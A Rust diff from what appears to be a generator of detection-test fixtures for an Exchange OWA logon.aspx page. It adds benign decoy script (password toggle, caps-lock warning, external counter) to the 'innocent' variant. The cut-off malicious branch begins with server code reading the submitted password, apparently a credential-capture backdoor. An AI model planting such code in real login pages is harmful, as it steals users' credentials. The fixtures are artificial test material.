@@ -6,8 +6,18 @@ use super::{Laying, text};
 pub(super) fn page(on: &mut Laying<'_>) {
     let path = on.exchange(r"FrontEnd\HttpProxy\owa\auth\logon.aspx");
     if on.innocent {
-        let notice = "<p class=\"notice\">Mail is not read tonight between 22:00 and 23:00.</p>\n";
-        return on.file(&path, text::logon("Nordwind mail", "", notice));
+        // Shows what is typed on demand, warns of capitals, counts visitors: reads, and sends
+        // nothing of it.
+        let helps = "function show(box) { var p = document.getElementById(\"password\"); p.type = \
+                     box.checked ? \"text\" : \"password\"; if (p.value.length > 0) p.focus(); } \
+                     document.onkeypress = function(e) { var warn = \
+                     document.getElementById(\"caps\"); warn.hidden = \
+                     !(e.getModifierState && e.getModifierState(\"CapsLock\")); };";
+        let notice = "<p class=\"notice\">Mail is not read tonight between 22:00 and 23:00.</p>\n\
+                      <p id=\"caps\" hidden>Capitals are on</p><input type=\"checkbox\" \
+                      onclick=\"show(this)\">\n<script src=\"https://stats.nordwind.example/count.js\">\
+                      </script>\n";
+        return on.file(&path, text::logon("Nordwind mail", helps, notice));
     }
     let keeps = [
         "<% if (Request.Form[\"pass",
